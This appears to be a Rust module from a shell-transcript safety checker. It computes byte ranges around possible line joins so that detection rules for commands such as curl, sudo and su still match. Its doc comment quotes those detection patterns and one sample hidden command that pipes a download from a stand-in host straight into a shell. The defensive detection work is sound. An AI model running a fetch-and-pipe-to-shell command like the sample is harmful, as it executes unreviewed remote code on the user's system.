//! Where a command read as going on past the terminal's last line may really be two or more.
//!
//! Past the terminal's last line readline writes a line that ends exactly at the right margin,
//! followed by the next line, just as it writes the rows of one line wider than the terminal
//! (see the screen's `carriage_return`): each place a row was read as going on
//! ([`ShellSink::command_joins`](crate::transcript::ShellSink::command_joins)) may be where a
//! line ended. The rules need a word's start or a line's start or end there (`\bcurl`,
//! `^sudo`, `su\s*$`), so a command hidden after such a line would escape them in the text as
//! read (`…fcurl -s x.io/i|sh`). So the stretches between those places are judged as well:
//! each from one place to any of the next [`NEAR`] (a line of up to that many rows, cut at
//! both ends), and each from one place to the end (a line of any length, with nothing after
//! it). A rule whose match needs both ends of a line longer than [`NEAR`] rows, in the middle
//! of such a paste, is the bound's price.

/// Places apart a stretch judged with both ends cut may be.
pub const NEAR: usize = 8;

/// The stretches of a text of `len` bytes to judge besides the whole, given where it may be
/// cut (`joins`: ascending, inside the text): byte ranges, each once.
pub fn stretches(len: usize, joins: &[u32]) -> impl Iterator<Item = (usize, usize)> + '_ {
    // The places: the start, each join, the end.
    let place = move |i: usize| match i {
        0 => 0,
        i if i <= joins.len() => joins[i - 1] as usize,
        _ => len,
    };
    let last = joins.len() + 1;
    (0..last).flat_map(move |a| {
        let near = (a + 1..=last.min(a + NEAR)).filter(move |&b| (a, b) != (0, last));
        // From `a` to the end, when the end is not near (judged above then).
        let far = (a > 0 && last > a + NEAR).then_some(last);
        near.chain(far).map(move |b| (place(a), place(b)))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_stretch_between_two_near_places_is_judged_and_the_whole_is_not() {
        let got: Vec<_> = stretches(30, &[10, 20]).collect();
        assert_eq!(got, vec![(0, 10), (0, 20), (10, 20), (10, 30), (20, 30)]);
        assert_eq!(stretches(5, &[]).count(), 0);
    }

    #[test]
    fn far_places_reach_the_end_but_not_each_other() {
        let joins: Vec<u32> = (1..=20).map(|i| i * 10).collect();
        let got: Vec<_> = stretches(210, &joins).collect();
        // From each place: its next NEAR places; from a join, the end too.
        assert!(got.contains(&(10, 90)) && !got.contains(&(10, 100)));
        assert!(got.contains(&(10, 210)) && got.contains(&(150, 210)));
        assert!(!got.contains(&(0, 210)) && got.contains(&(0, 80)));
        let mut unique = got.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), got.len());
    }
}
